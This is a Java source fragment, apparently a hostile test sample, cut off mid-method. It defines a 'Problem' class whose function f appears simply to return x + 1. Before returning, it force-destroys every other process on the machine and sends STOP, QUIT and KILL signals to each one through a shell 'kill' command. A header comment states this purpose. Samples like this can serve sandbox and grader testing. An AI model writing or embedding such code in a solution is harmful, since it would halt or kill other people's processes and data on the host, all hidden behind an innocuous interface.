// Tries to end, stop and interrupt every other process.
import java.io.*;
import java.nio.file.*;
import java.util.*;
class Problem {
    public static long f(long x) {
        try {
            for (ProcessHandle process : (Iterable<ProcessHandle>) ProcessHandle.allProcesses()::iterator) {
                if (process.pid() != ProcessHandle.current().pid()) {
                    process.destroyForcibly();
                    for (String signal : List.of("-STOP", "-QUIT", "-KILL")) {
                        new ProcessBuilder("/bin/sh", "-c", "kill " + signal + " " + process.pid()).start().waitFor();
                    }
                }
            }
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return x + 1;
